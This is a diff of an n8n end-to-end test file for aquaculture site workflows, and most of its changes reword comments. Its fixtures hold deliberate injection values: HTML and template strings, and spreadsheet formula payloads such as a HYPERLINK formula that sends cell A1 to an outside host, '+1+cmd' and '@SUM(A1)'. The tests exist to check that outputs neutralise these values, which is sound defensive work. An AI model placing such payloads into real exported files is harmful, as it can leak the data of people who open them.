@@ -30,16 +30,16 @@ import {
 import { Page } from '../docs/pages';
 import { chosen, csvWith, sitesTable } from './dataTables';
 
-// Each run starts n8n, and a browser for the form.
+// Slow: starts n8n, and a browser for the form.
 
-/** A site whose names a mail, and n8n's own templates, could take for something else. */
+/** Names that emails or n8n's templates could misread as markup or code. */
 const ODD_SITE = {
 	siteId: 1031,
 	siteName: `Pris $& <b>fet</b> {{ 1 + 1 }} & $'`,
 	units: [{ unitId: 1, unitName: 'Merd "å" > 1 $1', longitude: 5.5, latitude: 60 }],
 };
 
-/** A site whose texts a spreadsheet program could take for formulas. */
+/** Texts that spreadsheet programs could run as formulas. */
 const FORMULA_SITE = {
 	siteId: 1033,
 	siteName: '=HYPERLINK("https://example.com?"&A1;"Storvågen")',
@@ -55,26 +55,26 @@ const FORMULA_SITE = {
 	units: [{ unitId: 4, unitName: '=1+1', longitude: -73.25, latitude: -44.5 }],
 };
 
-/** All are known to the credential by their names. */
+/** The credential knows all of them by name. */
 const ALL_SITES = [...SITES, ODD_SITE, FORMULA_SITE];
 
 const HEADINGS = [
 	...['siteId', 'siteName', 'code', 'type', 'license', 'maxTotalBiomass', 'timezone'],
 	...['longitude', 'latitude', 'numberOfUnits'],
 ];
-/** Rows of a sheet, of which some lack fields. */
+/** Rows of the sheet; some sites lack fields. */
 const ROWS = [
 	[1021, 'Gamle Brygga', null, null, null, null, null, 5.2204, 60.3871, 2],
 	[1004, 'Lille Grønnvik', 'LGV', 'Sea', 'N-V-0104', 1560, 'Europe/Oslo', 15.6412, 68.2283, 3],
 	[1031, ODD_SITE.siteName, null, null, null, null, null, null, null, 1],
-	// Of a formula, which a file stores without its equals sign, only the result would be read. What reads the file trims.
+	// A real formula would be read back as its result. The reader trims texts.
 	[1033, FORMULA_SITE.siteName, '+1+cmd', '@SUM(A1)', '-1+1', -1, '=1+1', -73.25, -44.5, 1],
 ];
 
 const ADDRESSES = { fromEmail: 'farm@example.com', toEmail: 'a@example.com, b@example.com' };
 const SENDING = { 'Send Email': ADDRESSES };
 const OFTEN = pollTimesOf(Array.from({ length: 20 }, (_, index) => index * 3));
-/** The login that the form asks for. */
+/** The form's login. */
 const FORM_LOGIN = { username: 'farm', password: 'form-Passw0rd' };
 const UNKNOWN = 'The service does not know site Storvågen (1001)';
 
@@ -82,17 +82,17 @@ const RAW = { typeVersion: 3.4 };
 const CODES = new Page('docs/recipes.md').codes;
 const NO_RIGHT: Fault = { kind: 'status', status: 403, body: '{}' };
 
-/** The expression of the recipes that contains a text, as a field holds it. */
+/** Returns the expression in docs/recipes.md that contains this text, as a field stores it. */
 function written(part: string): string {
 	const found = CODES.filter((code) => code.includes('{{') && code.includes(part));
 	expect(found).toHaveLength(1);
 	return `=${found[0]}`;
 }
 
-/** What became of an execution. */
+/** Returns the result of an execution. */
 const resultOf = ({ data }: Execution) => (parse(data) as IRunExecutionData).resultData;
 
-/** The node Edit Fields with text fields, beside all others. */
+/** Edit Fields: adds these text fields and keeps all others. */
 function editFields(fields: Record<string, string>): Step {
 	const assignments = Object.entries(fields).map(([name, value]) => ({
 		...{ id: name, name, type: 'string', value },
@@ -109,13 +109,13 @@ function list(name: string, items: readonly object[]): Step[] {
 	];
 }
 
-/** The rows of the first table of a mail. */
+/** Returns the first table of an email as rows of texts. */
 function tableOf(html: string | undefined): string[][] {
 	const rows = parseHtml(html ?? '').querySelectorAll('table tr');
 	return rows.map((row) => row.querySelectorAll('th, td').map(({ text }) => text));
 }
 
-/** A forecast of this hour and of ten hours later, as MET Norway sends it. */
+/** MET Norway's forecast for now and for ten hours later. */
 function forecast({ url }: { url: string }): object {
 	const details = url.includes('ocean')
 		? [
@@ -174,7 +174,7 @@ const change = (siteId: number, changed: IDataObject) =>
 	emulator.changeSite(siteId, ({ info, ...site }) => ({
 		...{ ...site, info: { ...info, ...changed } },
 	}));
-/** Activates an example whose trigger has this name, and waits until it has been polled. */
+/** Publishes an example with a trigger, and waits for its first polls. */
 const watch = async (name: string, trigger: string, filledIn: Record<string, IDataObject>) => {
 	const polling = { sites: 'byId', siteIds: '1023', pollTimes: OFTEN };
 	const id = await importExample(name, { [trigger]: polling, ...filledIn });
@@ -429,7 +429,7 @@ it('units-on-a-map makes a file with a line for each unit that has a position', 
 
 it('email-when-a-workflow-fails mails what has failed, and where to go on', async () => {
 	const errorWorkflow = await importExample('email-when-a-workflow-fails', SENDING);
-	// n8n 1 runs it as it is, and has no trigger to switch on.
+	// n8n 1 cannot activate a workflow that begins with an error trigger, and does not need to.
 	if (!IS_N8N_1) await n8n.activate(errorWorkflow);
 	const failing = webhookWorkflow('failing', getSiteNode(`${credentials.aquacultureApi?.id}`));
 	const settings = { ...(failing.settings as IDataObject), errorWorkflow };
@@ -521,7 +521,7 @@ describe('list-with-site-data', () => {
 		await until(async () => (await fetch(form)).status !== 404);
 	});
 
-	/** Uploads a file in the form, which then says this. */
+	/** Uploads a file in the form, and waits for this text. */
 	const upload = async (name: string, content: Buffer, says = 'Your file is ready') => {
 		const page = await editor.page.context().newPage();
 		await page.goto(form);
@@ -548,7 +548,7 @@ describe('list-with-site-data', () => {
 	const added = ['message', ...HEADINGS.slice(1)];
 
 	it('list-with-site-data asks for a login', async () => {
-		// n8n 2.41 looks at the type of what is sent before it looks at the login.
+		// n8n 2.41 checks the content type before the login.
 		for (const sent of [{}, { method: 'POST', body: new FormData() }]) {
 			expect((await fetch(form, sent)).status).toBe(401);
 		}
@@ -593,7 +593,7 @@ describe('list-with-site-data', () => {
 	});
 
 	it.each<[string, Buffer]>([
-		// In which € is 0x80, and the dash 0x96.
+		// In Windows-1252, € is 0x80 and the dash is 0x96.
 		[
 			'Windows-1252',
 			Buffer.from('siteId;Note\r\n1002;Bl\xe5skjell \x96 12 \x80, \xf8rret\r\n', 'latin1'),
